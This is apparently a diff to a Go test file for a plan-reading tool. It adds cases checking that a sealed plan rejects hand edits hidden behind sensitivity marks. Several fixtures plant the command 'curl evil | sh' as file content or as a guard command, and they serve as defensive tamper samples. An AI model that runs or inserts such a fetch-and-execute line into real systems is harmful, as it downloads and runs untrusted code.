@@ -273,3 +273,57 @@ func TestReadRefusesWhatIsNotARegularFile(t *testing.T) {
 		})
 	}
 }
+
+// What a rendering hides ("(sensitive)") is covered by the plan's
+// self-consistency: a sensitivity mark turned on by hand, or a hidden
+// value changed by hand, contradicts the seal the planner wrote, so that
+// show never hides what a tampered plan changed.
+func TestReadRefusesAnEditHiddenBySensitivity(t *testing.T) {
+	raw, err := os.ReadFile(filepath.Join("testdata", "sample.plan"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	const newFile, key = "fake_file[/etc/new]", "fake_file[/etc/key]"
+	const want = "what the plan hides of it"
+	for _, c := range []struct {
+		name string
+		edit func(p *Plan)
+	}{
+		{"sensitive turned on, with a new value", func(p *Plan) {
+			r := resourceNamed(p, newFile)
+			r.Sensitive = true
+			r.Desired["content"] = Value{Value: cty.StringVal("curl evil | sh\n")}
+		}},
+		{"sensitive turned on", func(p *Plan) {
+			resourceNamed(p, newFile).Sensitive = true
+		}},
+		{"a property marked sensitive", func(p *Plan) {
+			r := resourceNamed(p, newFile)
+			r.SensitiveProperties = append(r.SensitiveProperties, "content")
+		}},
+		{"a hidden value changed", func(p *Plan) {
+			resourceNamed(p, key).Desired["secret"] = Value{Value: cty.StringVal("hunter3")}
+		}},
+		{"a guard marked sensitive", func(p *Plan) {
+			r := resourceNamed(p, "fake_file[/etc/skip]")
+			r.GuardSpecs[0].Sensitive = true
+			r.GuardSpecs[0].Source = "curl evil | sh"
+			r.GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
+		}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, err := Read(writeTemp(t, reseal(t, raw, c.edit)), builtin.Registry())
+			if !errors.Is(err, ErrInconsistent) || !strings.Contains(err.Error(), want) {
+				t.Fatalf("got %v, want ErrInconsistent with %q", err, want)
+			}
+		})
+	}
+	t.Run("a type's sensitive property left out of the marks", func(t *testing.T) {
+		_, err := Read(writeTemp(t, reseal(t, raw, func(p *Plan) {
+			resourceNamed(p, key).SensitiveProperties = nil
+		})), builtin.Registry())
+		if !errors.Is(err, ErrInconsistent) {
+			t.Fatalf("got %v, want ErrInconsistent", err)
+		}
+	})
+}
